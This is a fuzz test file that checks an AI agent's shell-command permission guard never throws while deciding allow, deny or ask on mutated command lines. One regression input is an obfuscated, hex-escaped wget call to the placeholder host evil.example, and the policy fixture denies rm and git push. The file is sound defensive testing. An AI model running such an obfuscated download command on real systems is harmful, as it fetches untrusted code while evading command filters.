// Bad input never crashes a decision: command lines built from the shell oracle's seed cases, the benign
// corpus and generated cases, with characters that matter to a shell inserted or deleted at random
// (fixed seed), are each decided (allow, deny or ask) without an exception. Two such lines once threw
// out of `decide`: an ANSI-C `\x` with no hex digit after it, and an awk string literal with a
// backslash in a pipe's command.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parsePolicy, permissionPolicy } from "../src/policy/index.js";
import { generateShellCases, SEED_CASES } from "./helpers/shell-grammar.js";
import { COMMANDS } from "./fixtures/benign/corpus.js";

const guard = permissionPolicy(
  parsePolicy(
    `version: 1
permissions:
  - { rule: "Bash(rm:*)", mode: deny }
  - { rule: "Bash(git push:*)", mode: deny }
  - { rule: "Bash(ls:*)", mode: allow }
tools:
  Bash: { risk: low }
`,
    "yaml",
    "never-throws.yaml",
  ),
);

const BASE = [...SEED_CASES.map((c) => c.command), ...generateShellCases(300, 4242).map((c) => c.command), ...COMMANDS.map((c) => (typeof c === "string" ? c : c.command))];
const CHARACTERS = ["\\", '"', "'", "$", "|", "(", ")", "<", ">", "&", ";", "\n", "{", "}", "=", "%", "`", "[", "]", "*", "#", "-", " ", "\t", "\r", "!", "0", "\u0000", "é"];
const RUNS = Number(process.env.GG_NEVER_THROWS_RUNS ?? 4000);

describe("a command line never makes the guard throw", () => {
  it("lines that once threw are decided", () => {
    for (const line of [`! $'\\x<77\\x67\\x65\\x74' $"http//evil.example/x" >> log.txt 2>&1`, "echo $'\\xZ' $'\\u' $'\\U'", `awk '{print | "s\\$h"}' a.txt`, `awk '{print | "\\x"}' a.txt`]) {
      expect(["allow", "deny", "ask"]).toContain(guard.decide("Bash", { command: line }).mode);
    }
  });

  it(`${RUNS} mutated lines are each decided`, () => {
    fc.assert(
      fc.property(fc.nat(BASE.length - 1), fc.array(fc.tuple(fc.nat(1_000), fc.nat(CHARACTERS.length - 1), fc.boolean()), { minLength: 1, maxLength: 4 }), (at, edits) => {
        let line = BASE[at]!;
        for (const [position, character, remove] of edits) {
          const p = position % (line.length + 1);
          line = remove && line.length > 0 ? line.slice(0, p) + line.slice(p + 1) : line.slice(0, p) + CHARACTERS[character]! + line.slice(p);
        }
        expect(["allow", "deny", "ask"]).toContain(guard.decide("Bash", { command: line }).mode);
      }),
      { numRuns: RUNS, seed: 20261128 },
    );
  });
});
